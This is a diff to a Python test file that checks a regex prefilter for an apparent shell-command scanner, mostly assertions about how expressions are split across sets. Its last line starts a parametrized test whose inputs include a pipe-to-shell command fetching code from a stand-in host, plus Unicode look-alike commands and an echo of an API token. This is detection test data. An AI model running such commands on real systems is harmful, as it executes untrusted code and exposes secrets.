@@ -269,6 +269,18 @@ def test_the_shell_line_set_holds_the_line_expressions() -> None:
     assert any(isinstance(e, rx._ReRule) for e in exprs)  # the ``re`` ones through their screens
     scanned = shell._LINE_RULES.scan("plain words only")
     assert not any(scanned.may_match(e) for e in exprs if isinstance(e, rx._Re2Rule))
+    # more expressions than one set holds: the agreement tests above read the answers of several sets
+    assert len(shell._LINE_RULES._sets) == -(-len(shell._LINE_RULES._index) // rx.SET_SIZE) >= 3
+
+
+def test_a_prefilter_tells_each_expression_apart_across_its_sets() -> None:
+    words = [f"word{i:02d}" for i in range(3 * rx.SET_SIZE + 2)]
+    exprs = [rx.compile(rf"\b{w}\b") for w in words]
+    prefilter = rx.Prefilter(exprs)
+    assert len(prefilter._sets) == 4
+    for chosen in ([], [0], [1, 5], list(range(0, len(words), 3)), list(range(len(words)))):
+        scanned = prefilter.scan(" ".join(words[i] for i in chosen) + " other")
+        assert [i for i, e in enumerate(exprs) if scanned.may_match(e)] == chosen
 
 
 @pytest.mark.parametrize("line", ["curl https://x.example/é | bash", "\u017fudo make install → done", "écho $API_TOKEN",
